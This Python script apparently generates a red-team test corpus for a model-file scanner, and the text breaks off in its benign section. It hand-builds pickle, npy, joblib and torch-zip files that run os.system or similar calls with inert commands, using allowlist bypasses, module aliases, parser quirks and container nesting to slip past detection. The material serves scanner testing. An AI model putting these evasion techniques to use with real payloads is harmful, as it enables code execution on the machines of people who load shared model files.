#!/usr/bin/env python3
"""Red-team corpus for aisec-modelscan: files that probe detection gaps and false alarms.

    /work/venv-fix/bin/python gen_redteam.py      # writes malicious/, benign/, MANIFEST.tsv here

SAFETY: never unpickles a malicious file.  Malicious streams are hand-assembled opcodes (helpers
borrowed from ../fixtures/gen_fixtures.py).  Payloads are inert: `echo aisec-redteam`, `id`,
`true`, paths under /nonexistent, or 127.0.0.1:9.  Benign files are made by real libraries
(numpy, scikit-learn, joblib, scipy) or by pickle.Pickler with fake modules, and a few benign
shapes are round-tripped with pickle.loads to prove the loader accepts them.
"""
from __future__ import annotations

import base64
import collections
import datetime
import enum
import io
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from collections import OrderedDict, namedtuple

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "fixtures"))
import gen_fixtures as G  # noqa: E402
from gen_fixtures import (  # noqa: E402
    APPENDS, BINGET, BINPUT, BUILD, DICT, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, GLOBAL, MARK, MEMOIZE,
    NEWOBJ, NONE, POP, PROTO, REDUCE, SETITEMS, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3, SBU, BU, SG,
    STRING, UNICODE, args_tuple, lit, p2, p4, call_g, call_sg, os_system_p2, build_zip, torch_zip,
    npy_header, deterministic_tar, npz_bytes, T, FakeStorage, FakeTensor, FakeParameter,
    torch_pickle, tiny_state_dict, storage_map, install_fake_modules, fake_modules, _put, floats,
)

CMD = "echo aisec-redteam"
FIXED_MTIME = G.FIXED_MTIME


class Out(G.Out):
    pass


def payload_body(cmd: str = CMD) -> bytes:
    """protocol 2 body: os.system(cmd)."""
    return call_g("os", "system", cmd)


# =============================================================================================
# Malicious
# =============================================================================================


def gen_malicious(o: Out):
    M = "malicious/"

    def w(name, data, cls, desc):
        assert len(data) < 64 * 1024, name
        o.write(M + name, data, "malicious", cls, desc)

    # ---- allowlisted higher-order helpers fed an unlisted command runner ----------------------
    w("numpy_randomstate_ctor_osx_read_output.pkl",
      p4(SG("numpy.random._pickle", "__randomstate_ctor") + SBU(CMD)
         + SG("_osx_support", "_read_output") + TUPLE2 + REDUCE),
      "allowlisted-higher-order",
      "numpy.random._pickle.__randomstate_ctor(cmd, _osx_support._read_output): ctor calls bit_generator_ctor(cmd)")
    w("numpy_generator_ctor_aix_read_cmd.pkl",
      p4(SG("numpy.random._pickle", "__generator_ctor") + SBU(CMD)
         + SG("_aix_support", "_read_cmd_output") + TUPLE2 + REDUCE),
      "allowlisted-higher-order",
      "numpy.random._pickle.__generator_ctor(cmd, _aix_support._read_cmd_output)")
    w("numpy_randomstate_ctor_argparse_os_system.pkl",
      p4(SG("numpy.random._pickle", "__randomstate_ctor") + SBU(CMD)
         + SG("argparse", "_os.system") + TUPLE2 + REDUCE),
      "allowlisted-higher-order",
      "__randomstate_ctor(cmd, argparse._os.system): os reached through argparse's private alias _os")
    w("numpy1_randomstate_ctor_text_global.pkl",
      p2(GLOBAL("numpy.random._pickle", "__randomstate_ctor") + lit(CMD)
         + GLOBAL("_osx_support", "_read_output") + TUPLE2 + REDUCE),
      "allowlisted-higher-order", "protocol 2 GLOBAL variant of __randomstate_ctor(cmd, _osx_support._read_output)")
    w("copyreg_reconstructor_base_init_wave.pkl",
      p2(GLOBAL("copy_reg", "_reconstructor") + GLOBAL("argparse", "Namespace")
         + GLOBAL("wave", "Wave_write") + lit("/nonexistent/aisec-redteam.wav") + TUPLE3 + REDUCE),
      "allowlisted-higher-order",
      "copyreg._reconstructor(argparse.Namespace, wave.Wave_write, path): base.__init__ opens path 'wb' (file write)")
    w("copyreg_reconstructor_base_init_testprogram.pkl",
      p2(GLOBAL("copy_reg", "_reconstructor") + GLOBAL("argparse", "Namespace")
         + GLOBAL("unittest.main", "TestProgram") + lit("this") + TUPLE3 + REDUCE),
      "allowlisted-higher-order",
      "copyreg._reconstructor(Namespace, unittest.main.TestProgram, 'this'): TestProgram.__init__ imports the named module and runs it")
    # functools.partial whose target is swapped through BUILD (__setstate__)
    body = (SG("functools", "partial") + SG("builtins", "str") + TUPLE1 + NEWOBJ
            + SG("_osx_support", "_read_output") + lit((CMD,)) + EMPTY_DICT + NONE + MARK
            + b"" )
    # state tuple (func, args, kwds, dict)
    body = (SG("functools", "partial") + SG("builtins", "str") + TUPLE1 + NEWOBJ
            + MARK + SG("_osx_support", "_read_output") + lit((CMD,)) + EMPTY_DICT + NONE + TUPLE
            + BUILD + EMPTY_TUPLE + REDUCE)
    w("partial_setstate_swap_func.pkl", p4(body), "build-state",
      "functools.partial(builtins.str) then BUILD (_osx_support._read_output,(cmd,),{},None) swaps the target; calling it runs cmd")
    body = (GLOBAL("functools", "partial") + GLOBAL("collections", "OrderedDict") + TUPLE1 + REDUCE
            + MARK + GLOBAL("_aix_support", "_read_cmd_output") + lit((CMD,)) + EMPTY_DICT + NONE + TUPLE
            + BUILD + EMPTY_TUPLE + REDUCE)
    w("partial_setstate_swap_func_p2.pkl", p2(body), "build-state",
      "protocol 2: partial(OrderedDict) REDUCE, BUILD swaps func to _aix_support._read_cmd_output, then call")

    # ---- unknown classes built from plain data whose constructor is the payload -----------------
    w("unittest_testprogram_defaulttest.pkl",
      p2(GLOBAL("unittest.main", "TestProgram") + MARK + NONE + lit("uuid._ip_getnode")
         + lit(["aisec"]) + TUPLE + REDUCE),
      "class-constructor-exec",
      "unittest.main.TestProgram(None, 'uuid._ip_getnode', ['aisec']): loader imports the dotted name and calls it (runs `ip link`)")
    w("unittest_testprogram_module.pkl",
      p4(SG("unittest", "TestProgram") + lit("this") + TUPLE1 + REDUCE),
      "class-constructor-exec", "unittest.TestProgram('this'): imports an arbitrary module (module code runs) and runs its tests")
    w("wave_write_truncate.pkl",
      p2(GLOBAL("wave", "Wave_write") + lit("/nonexistent/aisec-redteam.wav") + TUPLE1 + REDUCE),
      "class-constructor-fs", "wave.Wave_write(path): opens path for writing (truncates any file)")
    w("aifc_write_truncate.pkl",
      p2(GLOBAL("aifc", "Aifc_write") + lit("/nonexistent/aisec-redteam.aiff") + TUPLE1 + REDUCE),
      "class-constructor-fs", "aifc.Aifc_write(path): truncates path")
    w("pstats_stats_marshal.pkl",
      p2(GLOBAL("pstats", "Stats") + lit("/nonexistent/aisec-redteam.prof") + TUPLE1 + REDUCE),
      "class-constructor-fs", "pstats.Stats(path): reads an arbitrary file and marshal.load()s it")
    w("torch_tcpstore_connect.pkl",
      p2(GLOBAL("torch._C._distributed_c10d", "TCPStore") + MARK + lit("127.0.0.1") + lit(9)
         + lit(1) + lit(False) + TUPLE + REDUCE),
      "trusted-lib-class-network",
      "torch._C._distributed_c10d.TCPStore('127.0.0.1', 9, 1, False): connects to a TCP store (torch.distributed internals)")
    w("torch_filestore_create.pkl",
      p2(GLOBAL("torch._C._distributed_c10d", "FileStore") + lit("/nonexistent/aisec-redteam-store")
         + lit(1) + TUPLE2 + REDUCE),
      "trusted-lib-class-fs", "torch._C._distributed_c10d.FileStore(path, 1): creates a file")
    w("torch_pytorchfilewriter.pkl",
      p2(GLOBAL("torch._C", "PyTorchFileWriter") + lit("/nonexistent/aisec-redteam.pt") + TUPLE1 + REDUCE),
      "trusted-lib-class-fs", "torch._C.PyTorchFileWriter(path): creates/truncates a file")
    w("scipy_fortranfile_write.pkl",
      p2(GLOBAL("scipy.io._fortran", "FortranFile") + lit("/nonexistent/aisec-redteam.dat")
         + lit("w") + TUPLE2 + REDUCE),
      "trusted-lib-class-fs", "scipy.io._fortran.FortranFile(path, 'w'): opens path 'wb' (truncates)")
    w("pandas_hdfstore_alt_path.pkl",
      p2(GLOBAL("pandas.io.pytables", "HDFStore") + lit("/nonexistent/aisec-redteam.h5")
         + lit("w") + TUPLE2 + REDUCE),
      "trusted-lib-class-fs", "pandas.io.pytables.HDFStore(path,'w') (deny list has only pandas.HDFStore)")
    w("joblib_memory_alt_path.pkl",
      p2(GLOBAL("joblib.memory", "Memory") + lit("/nonexistent/aisec-redteam-cache") + TUPLE1 + REDUCE),
      "trusted-lib-class-fs", "joblib.memory.Memory(location): creates directories (deny list has only joblib.Memory)")
    w("joblib_memmapping_pool.pkl",
      p2(GLOBAL("joblib.pool", "MemmappingPool") + lit(1) + TUPLE1 + REDUCE),
      "trusted-lib-class-process", "joblib.pool.MemmappingPool(1): a multiprocessing.Pool that forks worker processes at load")
    w("sklearn_namedtemporaryfile.pkl",
      p2(GLOBAL("sklearn.datasets._base", "NamedTemporaryFile") + lit("w") + TUPLE1 + REDUCE),
      "trusted-lib-class-fs", "sklearn.datasets._base.NamedTemporaryFile (tempfile re-exported by sklearn): creates a file")
    w("sklearn_testing_check_output.pkl",
      p2(GLOBAL("sklearn.utils._testing", "check_output") + lit(["true"]) + TUPLE1 + REDUCE),
      "trusted-lib-alias", "sklearn.utils._testing.check_output is subprocess.check_output re-exported")

    # ---- .npy headers numpy accepts but a naive parser misreads --------------------------------
    pay = os_system_p2()

    def npy_raw(header_dict_text: str) -> bytes:
        hlen = len(header_dict_text) + 1
        pad = (-(10 + hlen)) % 64
        d = header_dict_text + " " * pad + "\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(d)) + d.encode("latin1")

    w("npy_descr_unicode_escape.npy",
      npy_raw("{'descr': '\\u004f', 'fortran_order': False, 'shape': (1,), }") + pay,
      "container-numpy-header", "object .npy whose descr is written '\\u004f' (literal_eval gives 'O')")
    w("npy_descr_object_word.npy",
      npy_raw("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }") + pay,
      "container-numpy-header", "object .npy whose descr is the word 'object' (np.dtype('object'))")
    w("npy_descr_key_concat.npy",
      npy_raw("{'de' 'scr': '|O', 'fortran_order': False, 'shape': (1,), }") + pay,
      "container-numpy-header", "object .npy whose 'descr' key is written as implicit concatenation 'de' 'scr'")
    w("npy_descr_hex_escape_structured.npy",
      npy_raw("{'descr': [('a', '\\x4f')], 'fortran_order': False, 'shape': (1,), }") + pay,
      "container-numpy-header", "structured .npy with one field whose type is '\\x4f' (object)")

    # ---- pickle text forms CPython accepts and a strict parser rejects -------------------------
    sysp0 = b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."
    w("p0_int_trailing_space.pkl", b"(I1 \nI2\nl0" + sysp0, "stream-quirk",
      "protocol 0 INT 'I1 \\n' (strtol stops at space, int() accepts) before the os.system payload")
    w("p0_put_trailing_space.pkl", b"(lp0 \n0" + sysp0, "stream-quirk",
      "protocol 0 PUT 'p0 \\n' (int(s,10) accepts trailing space) before os.system")
    w("p0_long_spaces.pkl", b"L 7 \n0" + sysp0, "stream-quirk",
      "protocol 0 LONG ' 7 ' with surrounding spaces before os.system")
    w("p0_int_underscore_tab.pkl", b"I1_0\t\n0" + sysp0, "stream-quirk",
      "protocol 0 INT '1_0\\t' (PyLong_FromString accepts) before os.system")
    sur = b"\x8c\x03\xed\xb3\xbf"  # SHORT_BINUNICODE lone surrogate U+DCFF (CPython: surrogatepass)
    w("binunicode_surrogate_before_payload.pkl",
      p4(sur + POP + SG("os", "system") + lit(CMD) + TUPLE1 + REDUCE),
      "stream-quirk", "SHORT_BINUNICODE holding a lone surrogate (accepted with surrogatepass) then os.system")
    w("binunicode_surrogate_p2.pkl",
      PROTO(2) + b"X\x03\x00\x00\x00\xed\xa0\x80" + POP + payload_body() + STOP,
      "stream-quirk", "protocol 2 BINUNICODE lone surrogate U+D800 then os.system")

    # ---- many pickles in one file: payload after the scanner's per-stream cap --------------------
    many = b"".join(pickle.dumps(i, protocol=2) for i in range(70)) + os_system_p2()
    w("multi_pickle_70th.pkl", many, "stream-quirk", "70 tiny benign pickles then os.system in the 71st")

    # ---- zip nesting deeper than the scanner's limit ----------------------------------------
    inner = os_system_p2()
    blob, name = inner, "data.pkl"
    for i in range(10):
        blob = G.std_zip([(name, blob, zipfile.ZIP_STORED)])
        name = f"layer{i}.zip"
    w("zip_nested_10_levels.zip", blob, "container-archive", "os.system pickle inside 10 nested zips")

    # ---- torch zip: archive folder named 'data' shadowed by a root data.pkl -------------------
    benign_pkl, seen = torch_pickle(tiny_state_dict())
    evil = p2(as_dict_with_payload())
    entries = [
        {"name": "data/data.pkl", "data": evil},
        {"name": "data/byteorder", "data": b"little"},
        {"name": "data/version", "data": b"3\n"},
        {"name": "data.pkl", "data": benign_pkl},
    ]
    w("torch_zip_archive_named_data.pt", build_zip(entries, align=64), "container-zip-quirk",
      "torch zip whose archive folder is 'data/' (torch reads data/data.pkl, the payload); a root data.pkl makes data/* look like storages")

    # ---- joblib: dtype whose size a parser guesses wrong, payload after the array -------------
    w("joblib_dtype_name_int64_skip.joblib", joblib_misskip("int64"), "container-joblib",
      "NumpyArrayWrapper dtype=numpy.dtype('int64') (8 bytes, 'i' guessed 4): a '.' inside the array ends the scanner's view; os.system follows the array")
    w("joblib_structured_object_field.joblib", joblib_struct_object(), "container-joblib",
      "joblib object-bearing structured array (descr V..): joblib pickle.load()s a nested pickle that holds os.system")


def gen_malicious_round2(o: Out):
    M = "malicious/"

    def w(name, data, cls, desc):
        assert len(data) < 64 * 1024, name
        o.write(M + name, data, "malicious", cls, desc)

    sysp0 = b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR."
    # C unpickler parses INT/LONG/FLOAT/PUT/GET text with strtol/PyLong_FromString on a C string:
    # a NUL ends the number and the rest of the line is ignored.
    w("p0_int_nul_terminated.pkl", b"I1\x00junk\n0" + sysp0, "stream-quirk",
      "protocol 0 INT '1\\x00junk' (strtol stops at NUL, endptr=='\\0' accepted) before os.system")
    w("p0_long_nul_terminated.pkl", b"L1\x00junk\n0" + sysp0, "stream-quirk",
      "protocol 0 LONG '1\\x00junk' (PyLong_FromString reads a C string) before os.system")
    w("p0_float_nul_terminated.pkl", b"F1.5\x00junk\n0" + sysp0, "stream-quirk",
      "protocol 0 FLOAT '1.5\\x00junk' before os.system")
    w("p0_put_get_nul_terminated.pkl", b"(lp0\x00zz\n0g0\x00q\n0" + sysp0, "stream-quirk",
      "protocol 0 PUT/GET keys '0\\x00zz' before os.system")
    w("p2_int_space_inside_proto2.pkl", PROTO(2) + b"I 5 \n0" + payload_body() + STOP, "stream-quirk",
      "protocol 2 stream with a text INT ' 5 ' (accepted) before os.system")

    # py2 module names the unpickler maps (protocol < 3, fix_imports) that a scanner may not know
    w("py2_docxmlrpcserver_bind.pkl",
      p2(GLOBAL("DocXMLRPCServer", "DocXMLRPCServer") + lit(("127.0.0.1", 9)) + TUPLE1 + REDUCE),
      "module-alias", "protocol 2 GLOBAL DocXMLRPCServer.DocXMLRPCServer -> xmlrpc.server (binds a listening socket on 127.0.0.1:9)")
    w("py2_test_support_alias.pkl",
      p2(GLOBAL("test.test_support", "run_in_subinterp") + lit("print('aisec-redteam')") + TUPLE1 + REDUCE),
      "module-alias", "protocol 2 GLOBAL test.test_support.run_in_subinterp -> test.support (runs code in a subinterpreter)")

    # allowlisted higher-order helpers fed callables that are not on the deny list
    w("numpy_randomstate_ctor_random_os_system.pkl",
      p4(SG("numpy.random._pickle", "__randomstate_ctor") + SBU(CMD) + SG("random", "_os.system")
         + TUPLE2 + REDUCE),
      "allowlisted-higher-order", "__randomstate_ctor(cmd, random._os.system) (random imports os as _os)")
    w("numpy_generator_ctor_sklearn_check_output.pkl",
      p2(GLOBAL("numpy.random._pickle", "__generator_ctor") + lit("id")
         + GLOBAL("sklearn.utils._testing", "check_output") + TUPLE2 + REDUCE),
      "allowlisted-higher-order", "__generator_ctor('id', sklearn.utils._testing.check_output) (subprocess.check_output re-exported by sklearn)")
    w("partial_setstate_swap_random_os_system.pkl",
      p4(SG("functools", "partial") + SG("builtins", "str") + TUPLE1 + NEWOBJ
         + MARK + SG("random", "_os.system") + lit((CMD,)) + EMPTY_DICT + NONE + TUPLE
         + BUILD + EMPTY_TUPLE + REDUCE),
      "build-state", "partial(builtins.str); BUILD swaps func to random._os.system with args (cmd,); then partial() is called")
    w("partial_setstate_swap_sklearn_check_output.pkl",
      p2(GLOBAL("functools", "partial") + GLOBAL("builtins", "str") + TUPLE1 + REDUCE
         + MARK + GLOBAL("sklearn.utils._testing", "check_output") + lit((["id"],)) + EMPTY_DICT + NONE + TUPLE
         + BUILD + EMPTY_TUPLE + REDUCE),
      "build-state", "partial(str); BUILD swaps func to sklearn.utils._testing.check_output(['id']); then called")
    rft = (GLOBAL("torch._tensor", "_rebuild_from_type_v2") + MARK + GLOBAL("functools", "partial")
           + GLOBAL("functools", "partial") + GLOBAL("builtins", "str") + TUPLE1
           + MARK + GLOBAL("random", "_os.system") + EMPTY_TUPLE + EMPTY_DICT + NONE + TUPLE
           + TUPLE + REDUCE)
    w("rebuild_from_type_v2_partial_setstate.pkl",
      PROTO(4) + GLOBAL("numpy.random._pickle", "__randomstate_ctor") + lit(CMD) + rft + TUPLE2 + REDUCE + STOP,
      "allowlisted-higher-order",
      "__randomstate_ctor(cmd, _rebuild_from_type_v2(partial, partial, (str,), (random._os.system,(),{},None))): "
      "rebuild calls partial.__setstate__ (swap), ctor then calls it with cmd")
    # copyreg._reconstructor: base.__init__ runs with the state argument
    w("copyreg_reconstructor_base_sunau.pkl",
      p4(SG("copyreg", "_reconstructor") + SG("argparse", "Namespace")
         + SG("sunau", "Au_write") + lit("/nonexistent/aisec-redteam.au") + TUPLE3 + REDUCE),
      "allowlisted-higher-order", "copyreg._reconstructor(argparse.Namespace, sunau.Au_write, path): Au_write.__init__ opens path 'wb'")
    w("sunau_write_truncate.pkl",
      p4(SG("sunau", "Au_write") + lit("/nonexistent/aisec-redteam.au") + TUPLE1 + REDUCE),
      "class-constructor-fs", "sunau.Au_write(path): truncates path")
    w("joblib_picklingpool.pkl",
      p2(GLOBAL("joblib.pool", "PicklingPool") + lit(1) + TUPLE1 + REDUCE),
      "trusted-lib-class-process", "joblib.pool.PicklingPool(1): multiprocessing pool, forks a worker at load")
    w("xgboost_booster_model_file.pkl",
      p2(GLOBAL("xgboost.core", "Booster") + NONE + NONE + lit("/nonexistent/aisec-redteam.json") + TUPLE3 + REDUCE),
      "trusted-lib-class-fs", "xgboost.core.Booster(None, None, path): reads an arbitrary model file")
    # nested: object array inside an npz whose header uses an escape
    pay = os_system_p2()
    hdr = "{'descr': '\\u004f', 'fortran_order': False, 'shape': (1,), }"
    hlen = len(hdr) + 1
    pad = (-(10 + hlen)) % 64
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr) + pad + 1) + (hdr + " " * pad + "\n").encode() + pay
    w("npz_escaped_object_member.npz", npz_bytes([("arr_0.npy", npy)]), "container-numpy-header",
      "np.savez-shaped npz whose member header says descr '\\u004f' (object) with an os.system body")
    w("npy_v3_descr_escape.npy",
      b"\x93NUMPY\x03\x00" + struct.pack("<I", len(hdr) + 1 + (-(12 + len(hdr) + 1)) % 64)
      + (hdr + " " * ((-(12 + len(hdr) + 1)) % 64) + "\n").encode() + pay,
      "container-numpy-header", "npy format 3.0 header with descr '\\u004f'")
    # torch zip 'data' archive folder trick, deflated, and with the payload deeper (nested pickle)
    benign_pkl, seen = torch_pickle(tiny_state_dict())
    inner = os_system_p2()
    evil = p2(EMPTY_DICT + lit("w") + GLOBAL("pickle", "loads") + lit(inner) + TUPLE1 + REDUCE + b"s")
    entries = [
        {"name": "data/data.pkl", "data": p2(as_dict_with_payload())},
        {"name": "data/version", "data": b"3\n"},
        {"name": "data/data/0", "data": b"\x00" * 16},
        {"name": "data.pkl", "data": benign_pkl},
        {"name": "version", "data": b"3\n"},
    ]
    w("torch_zip_archive_named_data_v2.pt", build_zip(entries, align=64), "container-zip-quirk",
      "torch zip: first member data/data.pkl (archive folder 'data'); root data.pkl + version decoys")
    entries = [
        {"name": "data/data.pkl", "data": p2(as_dict_with_payload())},
        {"name": "data/version", "data": b"3\n"},
        {"name": "x/data.pkl", "data": benign_pkl},
        {"name": "x/data/data.pkl", "data": benign_pkl},
    ]
    w("torch_zip_archive_named_data_no_root.pt", build_zip(entries, align=64), "container-zip-quirk",
      "torch zip: first member data/data.pkl; decoy x/data.pkl (does a non-root decoy also hide it?)")


def gen_malicious_round3(o: Out):
    M = "malicious/"

    def w(name, data, cls, desc):
        assert len(data) < 64 * 1024, name
        o.write(M + name, data, "malicious", cls, desc)

    n = 20000
    deep = PROTO(2) + b"(" * n + b"t" * n + POP + payload_body() + STOP
    w("deep_nested_tuples_then_payload.pkl", deep, "stream-quirk", f"{n} nested tuples (deep value) then os.system")
    deep2 = PROTO(2) + GLOBAL("os", "system") + lit(CMD) + b"]" * 15000 + b"a" * 14999 + TUPLE2 + REDUCE + STOP
    w("deep_nested_list_argument.pkl", deep2, "stream-quirk", "os.system(cmd, [[[...15000 deep...]]]) (deep argument to render)")
    memo = PROTO(2) + b"".join(b"K\x01r" + struct.pack("<I", i) + POP for i in range(4000)) + payload_body() + STOP
    w("long_memo_stream_payload_at_end.pkl", memo, "stream-quirk", "4000 LONG_BINPUT entries, payload at the very end")


def as_dict_with_payload() -> bytes:
    """protocol 2 body: {'fc.weight': os.system(cmd)} (dict shaped like a state dict)."""
    return EMPTY_DICT + lit("fc.weight") + payload_body() + b"s"


def joblib_misskip(dtype_name: str) -> bytes:
    """Hand-built joblib stream: NumpyArrayWrapper for 4 elements of dtype(dtype_name)."""
    wrapper = GLOBAL("joblib.numpy_pickle", "NumpyArrayWrapper")
    dtype = (GLOBAL("numpy", "dtype") + lit(dtype_name) + NEWFALSE_() + NEWTRUE_() + TUPLE3 + REDUCE
             + lit((3, "<", None, None, None, -1, -1, 0)) + BUILD)
    state = (EMPTY_DICT + MARK + lit("subclass") + GLOBAL("numpy", "ndarray") + lit("shape") + lit((4,))
             + lit("order") + lit("C") + lit("dtype") + dtype + lit("allow_mmap") + NEWFALSE_()
             + lit("numpy_array_alignment_bytes") + NONE + SETITEMS)
    head = PROTO(2) + wrapper + EMPTY_TUPLE + NEWOBJ + state + BUILD
    # 32 array bytes: scanner (itemsize 4) consumes 16, then sees '.' and stops; '~' is no opcode.
    arr = b"\x00" * 16 + b"." + b"~" * 15
    tail = POP + payload_body() + STOP
    return head + arr + tail


def NEWFALSE_():
    return b"\x89"


def NEWTRUE_():
    return b"\x88"


def joblib_struct_object() -> bytes:
    import numpy as np
    import joblib
    a = np.zeros(1, dtype=[("a", "<i4"), ("b", "O")])
    a[0] = (1, "x")
    b = io.BytesIO()
    joblib.dump({"arr": a}, b)
    outer = b.getvalue()
    inner = pickle.dumps(a, protocol=2)
    assert outer.count(inner) == 1, "nested pickle not found"
    itemsize = a.dtype.itemsize  # what a raw reader would skip
    # evil nested pickle: PROTO 2, BINBYTES padding whose content has '.' where the skip lands,
    # then the payload.
    pad_len = 40
    prefix = PROTO(2) + b"X" + struct.pack("<I", pad_len)
    content = bytearray(b"~" * pad_len)
    land = itemsize - len(prefix)
    assert 0 <= land < pad_len
    content[land] = ord(".")
    evil = prefix + bytes(content) + POP + payload_body() + STOP
    return outer.replace(inner, evil)


# =============================================================================================
# Benign
# =============================================================================================


def py311_2(code: str) -> bytes:
    """Run a snippet under Debian's Python 3.11.2 (whose Enum pickles via getattr) and return the
    bytes it prints base64-encoded."""
    exe = "/usr/bin/python3.11"
    if not os.path.exists(exe):
        raise SystemExit("need /usr/bin/python3.11 for the enum fixtures")
    out = subprocess.run([exe, "-c", code], check=True, capture_output=True).stdout
    return base64.b64decode(out)


ENUM_SNIPPET = r'''
import base64, enum, pickle, sys, types
def mod(name):
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        n = ".".join(parts[:i])
        if n not in sys.modules:
            sys.modules[n] = types.ModuleType(n)
            if i > 1:
                setattr(sys.modules[".".join(parts[:i-1])], parts[i-1], sys.modules[n])
    return sys.modules[name]
def put(modname, obj):
    obj.__module__ = modname
    setattr(mod(modname), obj.__name__, obj)
    return obj
class ExplicitEnum(str, enum.Enum):
    pass
IntervalStrategy = put("transformers.trainer_utils", ExplicitEnum("IntervalStrategy", {"NO": "no", "STEPS": "steps", "EPOCH": "epoch"}))
SchedulerType = put("transformers.trainer_utils", ExplicitEnum("SchedulerType", {"LINEAR": "linear", "COSINE": "cosine"}))
class TrainingArguments: pass
put("transformers.training_args", TrainingArguments)
class Color(enum.Enum):
    RED = 1
    GREEN = 2
put("mylib.config", Color)
class Perm(enum.IntFlag):
    R = 4
    W = 2
    X = 1
put("mylib.config", Perm)
KIND = sys.argv[1] if len(sys.argv) > 1 else "%s"
'''


def gen_benign(o: Out):
    B = "benign/"

    def w(name, data, cls, desc, roundtrip=True):
        assert len(data) < 64 * 1024, name
        o.write(B + name, data, "benign", cls, desc)

    import numpy as np
    import joblib
    import scipy.sparse
    from sklearn.compose import ColumnTransformer
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler, OneHotEncoder
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.ensemble import HistGradientBoostingClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer

    # ---- Python 3.11.2 enums (pickled as builtins.getattr(EnumClass, 'NAME')) ----------------
    snippet = ENUM_SNIPPET % "x" + r'''
ta = TrainingArguments()
ta.__dict__.update({"output_dir": "out", "evaluation_strategy": IntervalStrategy.STEPS,
                    "save_strategy": IntervalStrategy.EPOCH, "lr_scheduler_type": SchedulerType.LINEAR,
                    "learning_rate": 5e-5})
print(base64.b64encode(pickle.dumps(ta, protocol=2)).decode())
'''
    w("py3112_training_args_enums.pkl", py311_2(snippet), "benign-hf",
      "TrainingArguments-like object pickled by Python 3.11.2: str-Enum members become builtins.getattr(IntervalStrategy, 'STEPS')")
    snippet = ENUM_SNIPPET % "x" + r'''
print(base64.b64encode(pickle.dumps({"color": Color.RED, "perm": Perm.R | Perm.W, "p1": Perm.X}, protocol=4)).decode())
'''
    w("py3112_enum_intflag_p4.pkl", py311_2(snippet), "benign-collections",
      "Enum + IntFlag combination pickled by Python 3.11.2 (getattr + _operator.or_), protocol 4")
    snippet = ENUM_SNIPPET % "x" + r'''
print(base64.b64encode(pickle.dumps([Color.GREEN], protocol=0)).decode())
'''
    w("py3112_enum_p0.pkl", py311_2(snippet), "benign-collections",
      "Enum member pickled by Python 3.11.2, protocol 0 (c__builtin__\\ngetattr)")

    # ---- numpy / sklearn --------------------------------------------------------------------
    X = np.arange(40, dtype=np.float64).reshape(20, 2) / 10.0 + 0.1
    y = np.array([0, 1] * 10)
    ft = make_pipeline(FunctionTransformer(np.log1p, inverse_func=np.expm1), StandardScaler(),
                       LogisticRegression()).fit(X, y)
    for proto in (2, 4, 5):
        w(f"sklearn_functiontransformer_ufunc_p{proto}.pkl", pickle.dumps(ft, protocol=proto),
          "benign-sklearn", f"Pipeline(FunctionTransformer(np.log1p, inverse_func=np.expm1), ...), protocol {proto}")
    b = io.BytesIO()
    joblib.dump(ft, b, compress=3)
    w("sklearn_functiontransformer_ufunc.joblib", b.getvalue(), "benign-sklearn",
      "joblib zlib dump of a FunctionTransformer(np.log1p) pipeline")
    s = pickle.dumps(ft, protocol=2)
    s1 = s.replace(b"numpy._core", b"numpy.core")
    w("sklearn_functiontransformer_numpy1_names.pkl", s1, "benign-sklearn",
      "same pipeline with numpy 1.x module names (numpy.core.*)")
    # numpy 1.x ufunc pickling: numpy.core._ufunc_reconstruct('numpy', 'log1p')
    uf = p2(EMPTY_DICT + lit("func") + GLOBAL("numpy.core", "_ufunc_reconstruct") + lit("numpy")
            + lit("log1p") + TUPLE2 + REDUCE + b"s")
    w("numpy1_ufunc_reconstruct.pkl", uf, "benign-numpy",
      "numpy 1.x ufunc pickle: numpy.core._ufunc_reconstruct('numpy', 'log1p')")

    Xc = np.array([[1.0, 0], [2.0, 1], [np.nan, 0], [4.0, 1]] * 5)
    ct = Pipeline([("ct", ColumnTransformer([("num", SimpleImputer(), [0]),
                                              ("cat", OneHotEncoder(handle_unknown="ignore"), [1])])),
                   ("tree", DecisionTreeClassifier(max_depth=2, random_state=0))]).fit(Xc, y)
    w("sklearn_columntransformer_p4.pkl", pickle.dumps(ct, protocol=4), "benign-sklearn",
      "ColumnTransformer(SimpleImputer, OneHotEncoder) + DecisionTree, protocol 4")
    hgb = HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(X, y)
    b = io.BytesIO()
    joblib.dump(hgb, b)
    w("sklearn_histgb.joblib", b.getvalue(), "benign-sklearn", "joblib dump of HistGradientBoostingClassifier")
    sp = scipy.sparse.csr_matrix(np.eye(3))
    w("scipy_csr_p4.pkl", pickle.dumps({"m": sp}, protocol=4), "benign-numpy", "scipy.sparse csr_matrix, protocol 4")

    # joblib with exotic dtypes (raw array bytes interleaved with the pickle stream)
    arrays = {
        "dt": np.array(["2024-01-01T00:00", "2024-06-01T12:00"], dtype="datetime64[ns]"),
        "td": np.array([1, 2], dtype="timedelta64[s]"),
        "b": np.array([True, False, True]),
        "c64": np.array([1 + 2j, 3j], dtype=np.complex64),
        "c128": np.array([1 + 2j], dtype=np.complex128),
        "f16": np.array([1.5, 2.5], dtype=np.float16),
        "ld": np.zeros(2, dtype=np.longdouble),
        "u5": np.array(["ab", "cdefg"]),
        "s3": np.array([b"ab", b"c"]),
        "be": np.array([1.0, 2.0], dtype=">f8"),
        "u8": np.arange(7, dtype=np.uint8),
        "i2": np.arange(3, dtype=np.int16),
        "rec": np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8"), ("z", "S2")]),
        "recal": np.zeros(2, dtype=np.dtype([("x", "u1"), ("y", "<f8")], align=True)),
        "sub": np.zeros(2, dtype=[("v", "<f4", (3,))]),
        "fort": np.asfortranarray(np.arange(6, dtype=np.float32).reshape(2, 3)),
